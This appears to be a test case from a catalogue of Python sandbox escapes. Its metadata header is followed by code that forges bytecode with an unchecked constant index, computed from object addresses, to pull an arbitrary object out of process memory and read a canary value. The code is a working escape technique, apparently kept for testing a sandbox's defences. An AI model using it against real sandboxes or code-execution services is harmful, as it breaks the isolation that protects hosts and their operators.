# id: code-load-const-as-object-picker
# family: code-objects
# kind: escape
# invariant: C, G
# origin: V O I D, a contest jail of 2022
# technique: the index of a constant is not checked, so a distance computed from two addresses picks any object in the process
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary


def pick():
    chosen = "constant"
    return chosen


# The globals of a function are its third word; the items of a tuple begin at the fourth.
constants = (None, "constant")
kept = []
while (distance := (id(__import__) + 16 - id(constants) - 24) // 8) < 0:
    kept.append(constants)
    constants = (None, str(len(kept)))

plain = pick.__code__.co_code
extended = 71 if plain[0] == 149 else 144  # EXTENDED_ARG has another number in 3.13
high, upper, lower, low = distance.to_bytes(4, "big")
load = bytes([extended, high, extended, upper, extended, lower, plain[2], low])
pick.__code__ = pick.__code__.replace(co_code=plain[:2] + load + plain[4:], co_consts=constants)
print(pick()["CANARY"])
